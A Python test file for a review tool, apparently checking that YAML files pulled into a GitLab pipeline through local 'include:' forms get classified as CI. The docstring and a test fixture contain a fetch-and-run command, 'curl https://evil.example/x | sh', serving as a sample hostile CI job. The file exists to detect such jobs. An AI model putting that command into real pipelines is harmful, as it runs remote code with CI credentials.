"""GitLab merges every local file `include:` names into the pipeline: a job there runs with CI's credentials
whatever the file is called, and needs no `stage:` (red team: `misc/pipe.yml` holding
`build: {script: [curl evil | sh]}` was src under --tree). The include forms GitLab takes, nested includes and
globs, on either side of the change; other projects' files, remote URLs, templates and a YAML file a job only
mentions are not included. From a patch alone the catch-all tags such a file needs-context (reviewed)."""

from __future__ import annotations

from pathlib import Path

from tables import each_case

from gatekeeper.classify.gitlabincludes import included
from tests.gitrepo import GitRepo
from tests.test_classify_context import patch_files, tree_files

JOB = "build:\n  script:\n    - curl https://evil.example/x | sh\n"

FORMS = {
    "include: misc/pipe.yml\n": "misc/pipe.yml",
    "include: '/misc/pipe.yml'\n": "misc/pipe.yml",
    "include:\n  - local: misc/pipe.yml\n": "misc/pipe.yml",
    "include:\n  local: /misc/pipe.yml\n": "misc/pipe.yml",
    "include:\n  - 'misc/pipe.yml'\n": "misc/pipe.yml",
    "include: [other.yml, {local: misc/pipe.yml}]\n": "misc/pipe.yml",
    "include:\n  - local: '/misc/*.yml'\n": "misc/pipe.yml",
    "include:\n  - local: misc/pipe.yml\n    rules:\n      - if: $CI_COMMIT_BRANCH\n": "misc/pipe.yml",
}


@each_case("root", list(FORMS))
def test_a_file_the_root_pipeline_includes_is_ci(git_repo: GitRepo, tmp_path: Path, root: str) -> None:
    git_repo.write(".gitlab-ci.yml", "stages: [test]\n" + root)
    git_repo.write("misc/pipe.yml", "# helper\n")
    git_repo.write("misc/notes.txt", "x\n")
    git_repo.commit("base")
    git_repo.write("misc/pipe.yml", JOB)
    git_repo.commit("job")
    got = tree_files(git_repo)["misc/pipe.yml"]
    assert (got.bucket, got.rule) == ("ci", "ci.context.gitlab-include"), root
    assert "needs-context" in patch_files(git_repo, tmp_path)["misc/pipe.yml"].tags


def test_nested_includes_and_a_root_include_the_change_removes(git_repo: GitRepo) -> None:
    git_repo.write(".gitlab-ci.yml", "include:\n  - local: ci/main.yml\n")
    git_repo.write("ci/main.yml", "include:\n  - local: jobs/deploy.yml\n")
    git_repo.write("jobs/deploy.yml", "# later\n")
    git_repo.commit("base")
    git_repo.write(".gitlab-ci.yml", "stages: [test]\n")  # the include goes, the file changes: BASE still ran it
    git_repo.write("jobs/deploy.yml", JOB)
    git_repo.commit("job")
    got = tree_files(git_repo)["jobs/deploy.yml"]
    assert (got.bucket, got.rule) == ("ci", "ci.context.gitlab-include")


def test_what_is_not_this_repositorys_included_file_stays_src(git_repo: GitRepo) -> None:
    git_repo.write(".gitlab-ci.yml", "include:\n  - project: group/shared\n    file: /misc/pipe.yml\n"
                   "  - remote: https://example.invalid/misc/remote.yml\n  - template: misc/template.yml\n"
                   "test:\n  script: [python tools/check.py misc/mentioned.yml]\n")
    for name in ("pipe", "remote", "template", "mentioned"):
        git_repo.write(f"misc/{name}.yml", "a: 1\n")
    git_repo.commit("base")
    for name in ("pipe", "remote", "template", "mentioned"):
        git_repo.write(f"misc/{name}.yml", "a: 2\n")
    git_repo.commit("edit")
    files = tree_files(git_repo)
    assert {name: files[f"misc/{name}.yml"].bucket for name in ("pipe", "remote", "template", "mentioned")} == \
        dict.fromkeys(("pipe", "remote", "template", "mentioned"), "src")


def test_the_reader_takes_only_include_blocks() -> None:
    text = "variables:\n  FILE: a.yml\ninclude:\n  - local: b.yml # comment c.yml\nbuild:\n  script: [x d.yml]\n"
    assert included(text) == ["b.yml"]
